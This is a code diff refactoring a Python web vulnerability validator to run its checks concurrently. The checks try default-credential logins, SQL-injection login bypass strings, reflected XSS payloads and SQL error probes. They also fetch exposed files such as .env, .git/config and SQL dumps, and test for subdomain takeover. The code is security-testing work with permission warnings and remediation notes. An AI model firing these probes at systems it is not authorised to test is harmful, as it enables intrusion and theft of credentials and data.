@@ -5,16 +5,21 @@ Actively tests for vulnerabilities to validate risk scores
 ⚠️ WARNING: Only use on targets you have permission to test!
 """
 
-import requests
+import asyncio
 import re
-from typing import Dict, List, Optional
+from typing import Dict, Iterable, List, Optional, Tuple
 from urllib.parse import urljoin, urlparse, parse_qs, urlencode
 from dataclasses import dataclass
 import logging
 from datetime import datetime
 
+from .http_engine import VALIDATION_HOST_CONCURRENCY, AsyncHTTPEngine, run_sync
+from .response_cache import ResponseCache
+
 logger = logging.getLogger(__name__)
 
+ALL_CHECKS = ('auth_bypass', 'sensitive_files', 'subdomain_takeover', 'xss', 'sqli')
+
 
 @dataclass
 class VulnerabilityProof:
@@ -32,24 +37,54 @@ class WebAppValidator:
     """
     Validates potential vulnerabilities found during reconnaissance
     
+    Checks run concurrently on an AsyncHTTPEngine; each check stops its
+    remaining requests once it has a proof.
+    
     ⚠️ IMPORTANT: Only use on targets you have permission to test!
     """
     
-    def __init__(self, timeout: int = 10):
+    LOGIN_ENDPOINTS = ['/login', '/admin/login', '/wp-login.php', '/administrator']
+    SQLI_LOGIN_ENDPOINTS = ['/login', '/admin/login']
+    
+    SENSITIVE_FILES = [
+        ('.git/config', 'git_exposure'),
+        ('.env', 'env_file'),
+        ('backup.sql', 'database_backup'),
+        ('database.sql', 'database_backup'),
+        ('.DS_Store', 'macos_metadata'),
+        ('web.config', 'config_file'),
+        ('config.php', 'config_file'),
+        ('phpinfo.php', 'phpinfo'),
+    ]
+    
+    SENSITIVE_FILE_INDICATORS = {
+        '.git/config': ['[core]', 'repositoryformatversion'],
+        '.env': ['PASSWORD', 'SECRET', 'KEY', 'API'],
+        'backup.sql': ['CREATE TABLE', 'INSERT INTO', 'DROP TABLE'],
+        'database.sql': ['CREATE TABLE', 'INSERT INTO', 'DROP TABLE'],
+        'phpinfo.php': ['phpinfo()', 'PHP Version'],
+    }
+    
+    # Indicators sit near the top of these files; don't download a multi-GB dump to find them
+    SENSITIVE_FILE_MAX_BYTES = 64 * 1024
+    
+    SQL_ERRORS = re.compile('mysql_fetch|sql syntax|postgresql|ora-[0-9]+|microsoft sql|sqlite', re.IGNORECASE)
+    
+    def __init__(self, timeout: int = 10, max_per_host: int = VALIDATION_HOST_CONCURRENCY,
+                 cache: Optional[ResponseCache] = None):
         self.timeout = timeout
-        self.session = requests.Session()
-        self.session.verify = False  # For testing
-        requests.packages.urllib3.disable_warnings()
+        self.max_per_host = max_per_host
+        # Shared with the other validators of the same run (see validate_high_value_target)
+        self.cache = cache or ResponseCache()
+        self.requests_sent = 0
         
     # ==================== AUTHENTICATION BYPASS TESTS ====================
     
-    def test_auth_bypass(self, target_url: str) -> List[VulnerabilityProof]:
+    async def test_auth_bypass(self, engine: AsyncHTTPEngine, target_url: str) -> List[VulnerabilityProof]:
         """
         Test common authentication bypass techniques
         Returns proofs if bypass is successful
         """
-        proofs = []
-        
         # Test 1: Default Credentials
         default_creds = [
             ('admin', 'admin'),
@@ -59,18 +94,6 @@ class WebAppValidator:
             ('admin', ''),
         ]
         
-        for username, password in default_creds:
-            if self._test_login(target_url, username, password):
-                proofs.append(VulnerabilityProof(
-                    vuln_type='default_credentials',
-                    severity='CRITICAL',
-                    url=target_url,
-                    payload=f'{username}:{password}',
-                    evidence=f'Successfully logged in with {username}:{password}',
-                    remediation='Change default credentials immediately'
-                ))
-                break
-        
         # Test 2: SQL Injection Auth Bypass
         sqli_payloads = [
             "' OR '1'='1",
@@ -79,138 +102,124 @@ class WebAppValidator:
             "' OR 1=1--",
         ]
         
-        for payload in sqli_payloads:
-            if self._test_sqli_login(target_url, payload):
-                proofs.append(VulnerabilityProof(
-                    vuln_type='sqli_auth_bypass',
-                    severity='CRITICAL',
-                    url=target_url,
-                    payload=payload,
-                    evidence=f'SQL injection bypass successful with payload: {payload}',
-                    remediation='Use parameterized queries, implement input validation'
-                ))
-                break
+        proofs = await asyncio.gather(
+            engine.first_result([
+                self._test_login(engine, target_url, endpoint, username, password)
+                for username, password in default_creds
+                for endpoint in self.LOGIN_ENDPOINTS
+            ]),
+            engine.first_result([
+                self._test_sqli_login(engine, target_url, endpoint, payload)
+                for payload in sqli_payloads
+                for endpoint in self.SQLI_LOGIN_ENDPOINTS
+            ])
+        )
+        return [proof for proof in proofs if proof]
+    
+    async def _test_login(self, engine: AsyncHTTPEngine, url: str, endpoint: str,
+                          username: str, password: str) -> Optional[VulnerabilityProof]:
+        """Test a single username/password combination on one login endpoint"""
+        data = {
+            'username': username,
+            'password': password,
+            'user': username,
+            'pass': password,
+        }
         
-        return proofs
+        response = await engine.request('POST', urljoin(url, endpoint), data=data, follow_redirects=False)
+        if response is None:
+            return None
+        
+        body = response.text.lower()
+        if (response.status_code == 302 or 'dashboard' in body or
+                ('welcome' in body and 'login' not in body)):
+            return VulnerabilityProof(
+                vuln_type='default_credentials',
+                severity='CRITICAL',
+                url=url,
+                payload=f'{username}:{password}',
+                evidence=f'Successfully logged in with {username}:{password}',
+                remediation='Change default credentials immediately'
+            )
+        return None
     
-    def _test_login(self, url: str, username: str, password: str) -> bool:
-        """Test a single username/password combination"""
-        try:
-            endpoints = ['/login', '/admin/login', '/wp-login.php', '/administrator']
-            
-            for endpoint in endpoints:
-                login_url = urljoin(url, endpoint)
-                
-                data = {
-                    'username': username,
-                    'password': password,
-                    'user': username,
-                    'pass': password,
-                }
-                
-                response = self.session.post(
-                    login_url,
-                    data=data,
-                    timeout=self.timeout,
-                    allow_redirects=False
-                )
-                
-                if response.status_code == 302:
-                    return True
-                if 'dashboard' in response.text.lower():
-                    return True
-                if 'welcome' in response.text.lower() and 'login' not in response.text.lower():
-                    return True
-                    
-        except Exception as e:
-            logger.debug(f"Login test error: {e}")
+    async def _test_sqli_login(self, engine: AsyncHTTPEngine, url: str, endpoint: str,
+                               payload: str) -> Optional[VulnerabilityProof]:
+        """Test SQL injection in one login form"""
+        data = {
+            'username': payload,
+            'password': 'anything',
+        }
         
-        return False
+        response = await engine.request('POST', urljoin(url, endpoint), data=data, follow_redirects=False)
+        if response is None:
+            return None
+        
+        if response.status_code == 302 or 'dashboard' in response.text.lower():
+            return VulnerabilityProof(
+                vuln_type='sqli_auth_bypass',
+                severity='CRITICAL',
+                url=url,
+                payload=payload,
+                evidence=f'SQL injection bypass successful with payload: {payload}',
+                remediation='Use parameterized queries, implement input validation'
+            )
+        return None
     
-    def _test_sqli_login(self, url: str, payload: str) -> bool:
-        """Test SQL injection in login form"""
-        try:
-            endpoints = ['/login', '/admin/login']
-            
-            for endpoint in endpoints:
-                login_url = urljoin(url, endpoint)
-                
-                data = {
-                    'username': payload,
-                    'password': 'anything',
-                }
-                
-                response = self.session.post(
-                    login_url,
-                    data=data,
-                    timeout=self.timeout,
-                    allow_redirects=False
-                )
-                
-                if response.status_code == 302:
-                    return True
-                if 'dashboard' in response.text.lower():
-                    return True
-                    
-        except Exception as e:
-            logger.debug(f"SQLi login test error: {e}")
+    # ==================== PARAMETER TESTS ====================
+    
+    def _param_targets(self, target_url: str, discovered_paths: List[str]) -> List[Tuple[str, str]]:
+        """(url, parameter name) for every query parameter of the first 10 paths"""
+        targets = []
+        for path in discovered_paths[:10]:
+            full_url = urljoin(target_url, path)
+            for param_name in parse_qs(urlparse(full_url).query).keys():
+                targets.append((full_url, param_name))
+        return targets
+    
+    def _inject(self, url: str, param_name: str, payload: str) -> str:
+        parsed = urlparse(url)
+        params = parse_qs(parsed.query)
+        params[param_name] = [payload]
         
-        return False
+        new_query = urlencode(params, doseq=True)
+        return f"{parsed.scheme}://{parsed.netloc}{parsed.path}?{new_query}"
     
     # ==================== XSS VALIDATION ====================
     
-    def test_xss(self, target_url: str, discovered_paths: List[str]) -> List[VulnerabilityProof]:
-        """Test for XSS in discovered endpoints"""
-        proofs = []
-        
+    async def test_xss(self, engine: AsyncHTTPEngine, target_url: str,
+                       discovered_paths: List[str]) -> List[VulnerabilityProof]:
+        """Test for XSS in discovered endpoints (one proof per parameter)"""
         payloads = [
             "<script>alert('XSS')</script>",
             "<img src=x onerror=alert('XSS')>",
             "'\"><script>alert(String.fromCharCode(88,83,83))</script>",
         ]
         
-        for path in discovered_paths[:10]:
-            full_url = urljoin(target_url, path)
-            parsed = urlparse(full_url)
-            params = parse_qs(parsed.query)
-            
-            if not params:
-                continue
-            
-            for param_name in params.keys():
-                for payload in payloads:
-                    if proof := self._test_xss_param(full_url, param_name, payload):
-                        proofs.append(proof)
-                        break
-        
-        return proofs
+        proofs = await asyncio.gather(*(
+            engine.first_result([self._test_xss_param(engine, url, param_name, payload) for payload in payloads])
+            for url, param_name in self._param_targets(target_url, discovered_paths)
+        ))
+        return [proof for proof in proofs if proof]
     
-    def _test_xss_param(self, url: str, param_name: str, payload: str) -> Optional[VulnerabilityProof]:
+    async def _test_xss_param(self, engine: AsyncHTTPEngine, url: str, param_name: str,
+                              payload: str) -> Optional[VulnerabilityProof]:
         """Test a single parameter for XSS"""
-        try:
-            parsed = urlparse(url)
-            params = parse_qs(parsed.query)
-            params[param_name] = [payload]
-            
-            new_query = urlencode(params, doseq=True)
-            test_url = f"{parsed.scheme}://{parsed.netloc}{parsed.path}?{new_query}"
-            
-            response = self.session.get(test_url, timeout=self.timeout)
-            
-            if payload in response.text:
-                if not self._is_escaped(response.text, payload):
-                    return VulnerabilityProof(
-                        vuln_type='reflected_xss',
-                        severity='HIGH',
-                        url=test_url,
-                        payload=payload,
-                        evidence=f'XSS payload reflected unescaped in parameter: {param_name}',
-                        remediation='Implement output encoding/escaping, use Content Security Policy'
-                    )
-                    
-        except Exception as e:
-            logger.debug(f"XSS test error: {e}")
-        
+        test_url = self._inject(url, param_name, payload)
+        response = await engine.request('GET', test_url, follow_redirects=True)
+        if response is None:
+            return None
+        
+        html = response.text
+        if payload in html and not self._is_escaped(html, payload):
+            return VulnerabilityProof(
+                vuln_type='reflected_xss',
+                severity='HIGH',
+                url=test_url,
+                payload=payload,
+                evidence=f'XSS payload reflected unescaped in parameter: {param_name}',
+                remediation='Implement output encoding/escaping, use Content Security Policy'
+            )
         return None
     
     def _is_escaped(self, html: str, payload: str) -> bool:
@@ -228,167 +237,173 @@ class WebAppValidator:
     
     # ==================== SQL INJECTION VALIDATION ====================
     
-    def test_sqli(self, target_url: str, discovered_paths: List[str]) -> List[VulnerabilityProof]:
-        """Test for SQL injection in discovered endpoints"""
-        proofs = []
-        
+    async def test_sqli(self, engine: AsyncHTTPEngine, target_url: str,
+                        discovered_paths: List[str]) -> List[VulnerabilityProof]:
+        """Test for SQL injection in discovered endpoints (one proof per parameter)"""
         payloads = [
             "'",
             "1' OR '1'='1",
             "' OR 1=1--",
         ]
         
-        for path in discovered_paths[:10]:
-            full_url = urljoin(target_url, path)
-            parsed = urlparse(full_url)
-            params = parse_qs(parsed.query)
-            
-            if not params:
-                continue
-            
-            for param_name in params.keys():
-                for payload in payloads:
-                    if proof := self._test_sqli_param(full_url, param_name, payload):
-                        proofs.append(proof)
-                        break
-        
-        return proofs
+        proofs = await asyncio.gather(*(
+            engine.first_result([self._test_sqli_param(engine, url, param_name, payload) for payload in payloads])
+            for url, param_name in self._param_targets(target_url, discovered_paths)
+        ))
+        return [proof for proof in proofs if proof]
     
-    def _test_sqli_param(self, url: str, param_name: str, payload: str) -> Optional[VulnerabilityProof]:
+    async def _test_sqli_param(self, engine: AsyncHTTPEngine, url: str, param_name: str,
+                               payload: str) -> Optional[VulnerabilityProof]:
         """Test a single parameter for SQL injection"""
-        try:
-            parsed = urlparse(url)
-            params = parse_qs(parsed.query)
-            params[param_name] = [payload]
-            
-            new_query = urlencode(params, doseq=True)
-            test_url = f"{parsed.scheme}://{parsed.netloc}{parsed.path}?{new_query}"
-            
-            response = self.session.get(test_url, timeout=self.timeout)
-            
-            sql_errors = [
-                'mysql_fetch',
-                'sql syntax',
-                'postgresql',
-                'ora-[0-9]+',
-                'microsoft sql',
-                'sqlite',
-            ]
-            
-            for error in sql_errors:
-                if re.search(error, response.text, re.IGNORECASE):
-                    return VulnerabilityProof(
-                        vuln_type='sql_injection',
-                        severity='CRITICAL',
-                        url=test_url,
-                        payload=payload,
-                        evidence=f'SQL error message detected in parameter: {param_name}',
-                        remediation='Use parameterized queries, implement input validation'
-                    )
-                    
-        except Exception as e:
-            logger.debug(f"SQLi test error: {e}")
-        
+        test_url = self._inject(url, param_name, payload)
+        response = await engine.request('GET', test_url, follow_redirects=True)
+        if response is None:
+            return None
+        
+        if self.SQL_ERRORS.search(response.text):
+            return VulnerabilityProof(
+                vuln_type='sql_injection',
+                severity='CRITICAL',
+                url=test_url,
+                payload=payload,
+                evidence=f'SQL error message detected in parameter: {param_name}',
+                remediation='Use parameterized queries, implement input validation'
+            )
         return None
     
     # ==================== EXPOSED SENSITIVE FILES ====================
     
-    def test_sensitive_files(self, target_url: str) -> List[VulnerabilityProof]:
+    async def test_sensitive_files(self, engine: AsyncHTTPEngine, target_url: str) -> List[VulnerabilityProof]:
         """Test for exposed sensitive files"""
-        proofs = []
-        
-        sensitive_files = [
-            ('.git/config', 'git_exposure'),
-            ('.env', 'env_file'),
-            ('backup.sql', 'database_backup'),
-            ('database.sql', 'database_backup'),
-            ('.DS_Store', 'macos_metadata'),
-            ('web.config', 'config_file'),
-            ('config.php', 'config_file'),
-            ('phpinfo.php', 'phpinfo'),
-        ]
-        
-        for file_path, vuln_type in sensitive_files:
-            test_url = urljoin(target_url, file_path)
-            
-            try:
-                response = self.session.get(test_url, timeout=self.timeout)
-                
-                if response.status_code == 200:
-                    if self._verify_sensitive_file(file_path, response.text):
-                        proofs.append(VulnerabilityProof(
-                            vuln_type=vuln_type,
-                            severity='CRITICAL' if 'backup' in vuln_type or 'git' in vuln_type else 'HIGH',
-                            url=test_url,
-                            payload=file_path,
-                            evidence=f'Sensitive file accessible: {file_path}',
-                            remediation='Remove sensitive files from web root, configure proper access controls'
-                        ))
-                        
-            except Exception as e:
-                logger.debug(f"Sensitive file test error: {e}")
+        proofs = await asyncio.gather(*(
+            self._test_sensitive_file(engine, target_url, file_path, vuln_type)
+            for file_path, vuln_type in self.SENSITIVE_FILES
+        ))
+        return [proof for proof in proofs if proof]
+    
+    async def _test_sensitive_file(self, engine: AsyncHTTPEngine, target_url: str, file_path: str,
+                                   vuln_type: str) -> Optional[VulnerabilityProof]:
+        test_url = urljoin(target_url, file_path)
         
-        return proofs
+        try:
+            async with engine.stream('GET', test_url, follow_redirects=True) as response:
+                if response.status_code != 200:
+                    return None
+                if file_path in self.SENSITIVE_FILE_INDICATORS:
+                    # Stop reading as soon as an indicator shows up
+                    body = await response.read(
+                        self.SENSITIVE_FILE_MAX_BYTES,
+                        until=lambda content: self._verify_sensitive_file(file_path, content.decode('utf-8', errors='replace'))
+                    )
+                    if not self._verify_sensitive_file(file_path, body.decode('utf-8', errors='replace')):
+                        return None
+        except Exception as e:
+            logger.debug(f"Sensitive file test error: {e}")
+            return None
+        
+        return VulnerabilityProof(
+            vuln_type=vuln_type,
+            severity='CRITICAL' if 'backup' in vuln_type or 'git' in vuln_type else 'HIGH',
+            url=test_url,
+            payload=file_path,
+            evidence=f'Sensitive file accessible: {file_path}',
+            remediation='Remove sensitive files from web root, configure proper access controls'
+        )
     
     def _verify_sensitive_file(self, file_path: str, content: str) -> bool:
         """Verify that the file is actually what we're looking for"""
-        indicators = {
-            '.git/config': ['[core]', 'repositoryformatversion'],
-            '.env': ['PASSWORD', 'SECRET', 'KEY', 'API'],
-            'backup.sql': ['CREATE TABLE', 'INSERT INTO', 'DROP TABLE'],
-            'database.sql': ['CREATE TABLE', 'INSERT INTO', 'DROP TABLE'],
-            'phpinfo.php': ['phpinfo()', 'PHP Version'],
-        }
-        
-        if file_path in indicators:
-            file_indicators = indicators[file_path]
+        if file_path in self.SENSITIVE_FILE_INDICATORS:
+            file_indicators = self.SENSITIVE_FILE_INDICATORS[file_path]
             return any(indicator in content for indicator in file_indicators)
         
         return True
     
     # ==================== SUBDOMAIN TAKEOVER ====================
     
-    def test_subdomain_takeover(self, subdomain: str) -> Optional[VulnerabilityProof]:
+    async def test_subdomain_takeover(self, engine: AsyncHTTPEngine, subdomain: str) -> Optional[VulnerabilityProof]:
         """Test if subdomain is vulnerable to takeover"""
-        try:
-            response = self.session.get(
-                f'https://{subdomain}',
-                timeout=self.timeout,
-                allow_redirects=False
-            )
-            
-            takeover_indicators = {
-                'NoSuchBucket': ('s3_takeover', 'Amazon S3 bucket not found'),
-                'There is no app configured': ('heroku_takeover', 'Heroku app not configured'),
-                'No such app': ('heroku_takeover', 'Heroku app not found'),
-                'Project doesnt exist': ('github_pages_takeover', 'GitHub Pages project not found'),
-            }
-            
-            for indicator, (vuln_type, description) in takeover_indicators.items():
-                if indicator in response.text:
-                    return VulnerabilityProof(
-                        vuln_type=vuln_type,
-                        severity='CRITICAL',
-                        url=f'https://{subdomain}',
-                        payload='N/A',
-                        evidence=f'Subdomain takeover possible: {description}',
-                        remediation='Remove DNS record or reclaim the service'
-                    )
-                    
-        except Exception as e:
-            logger.debug(f"Subdomain takeover test error: {e}")
+        response = await engine.request('GET', f'https://{subdomain}', follow_redirects=False)
+        if response is None:
+            return None
+        
+        takeover_indicators = {
+            'NoSuchBucket': ('s3_takeover', 'Amazon S3 bucket not found'),
+            'There is no app configured': ('heroku_takeover', 'Heroku app not configured'),
+            'No such app': ('heroku_takeover', 'Heroku app not found'),
+            'Project doesnt exist': ('github_pages_takeover', 'GitHub Pages project not found'),
+        }
+        
+        html = response.text
+        for indicator, (vuln_type, description) in takeover_indicators.items():
+            if indicator in html:
+                return VulnerabilityProof(
+                    vuln_type=vuln_type,
+                    severity='CRITICAL',
+                    url=f'https://{subdomain}',
+                    payload='N/A',
+                    evidence=f'Subdomain takeover possible: {description}',
+                    remediation='Remove DNS record or reclaim the service'
+                )
         
         return None
     
     # ==================== MAIN VALIDATION ORCHESTRATOR ====================
     
+    async def _run_checks(self, target_url: str, discovered_paths: Optional[List[str]],
+                          is_subdomain: bool, checks: Iterable[str]) -> List[VulnerabilityProof]:
+        checks = set(checks)
+        async with AsyncHTTPEngine(timeout=self.timeout, max_per_host=self.max_per_host, cache=self.cache) as engine:
+            tasks = []
+            
+            # Test 1: Authentication Bypass
+            if 'auth_bypass' in checks:
+                logger.info(f"Testing authentication bypass on {target_url}")
+                tasks.append(self.test_auth_bypass(engine, target_url))
+            
+            # Test 2: Sensitive Files
+            if 'sensitive_files' in checks:
+                logger.info(f"Testing for sensitive files on {target_url}")
+                tasks.append(self.test_sensitive_files(engine, target_url))
+            
+            # Test 3: Subdomain Takeover (if it's a subdomain)
+            if is_subdomain and 'subdomain_takeover' in checks:
+                domain = urlparse(target_url).netloc
+                logger.info(f"Testing subdomain takeover on {domain}")
+                tasks.append(self.test_subdomain_takeover(engine, domain))
+            
+            # Test 4: XSS (if we have discovered paths)
+            if discovered_paths and 'xss' in checks:
+                logger.info(f"Testing XSS on {len(discovered_paths)} paths")
+                tasks.append(self.test_xss(engine, target_url, discovered_paths))
+            
+            # Test 5: SQLi (if we have discovered paths)
+            if discovered_paths and 'sqli' in checks:
+                logger.info(f"Testing SQL injection on {len(discovered_paths)} paths")
+                tasks.append(self.test_sqli(engine, target_url, discovered_paths))
+            
+            all_proofs = []
+            for outcome in await asyncio.gather(*tasks, return_exceptions=True):
+                if isinstance(outcome, Exception):
+                    logger.debug(f"Validation check error: {outcome}")
+                elif isinstance(outcome, VulnerabilityProof):
+                    all_proofs.append(outcome)
+                elif outcome:
+                    all_proofs.extend(outcome)
+            
+            self.requests_sent += engine.requests
+        return all_proofs
+    
     def validate_target(self, 
                        target_url: str, 
                        discovered_paths: List[str] = None,
-                       is_subdomain: bool = False) -> Dict:
+                       is_subdomain: bool = False,
+                       checks: Iterable[str] = ALL_CHECKS) -> Dict:
         """
         Comprehensive validation of a target
         
+        Args:
+            checks: Subset of ALL_CHECKS to run
+        
         Returns:
             Dict with validation results and proofs
         """
@@ -401,39 +416,13 @@ class WebAppValidator:
             'proofs': []
         }
         
-        all_proofs = []
-        
-        # Test 1: Authentication Bypass
-        logger.info(f"Testing authentication bypass on {target_url}")
-        all_proofs.extend(self.test_auth_bypass(target_url))
-        
-        # Test 2: Sensitive Files
-        logger.info(f"Testing for sensitive files on {target_url}")
-        all_proofs.extend(self.test_sensitive_files(target_url))
-        
-        # Test 3: Subdomain Takeover (if it's a subdomain)
-        if is_subdomain:
-            parsed = urlparse(target_url)
-            domain = parsed.netloc
-            logger.info(f"Testing subdomain takeover on {domain}")
-            proof = self.test_subdomain_takeover(domain)
-            if proof:
-                all_proofs.append(proof)
-        
-        # Test 4: XSS (if we have discovered paths)
-        if discovered_paths:
-            logger.info(f"Testing XSS on {len(discovered_paths)} paths")
-            all_proofs.extend(self.test_xss(target_url, discovered_paths))
-        
-        # Test 5: SQLi (if we have discovered paths)
-        if discovered_paths:
-            logger.info(f"Testing SQL injection on {len(discovered_paths)} paths")
-            all_proofs.extend(self.test_sqli(target_url, discovered_paths))
+        all_proofs = run_sync(self._run_checks(target_url, discovered_paths, is_subdomain, checks))
         
         # Aggregate results
         results['total_vulns'] = len(all_proofs)
         results['critical_vulns'] = len([p for p in all_proofs if p.severity == 'CRITICAL'])
         results['high_vulns'] = len([p for p in all_proofs if p.severity == 'HIGH'])
+        results['requests_sent'] = self.requests_sent
         results['proofs'] = [
             {
                 'type': p.vuln_type,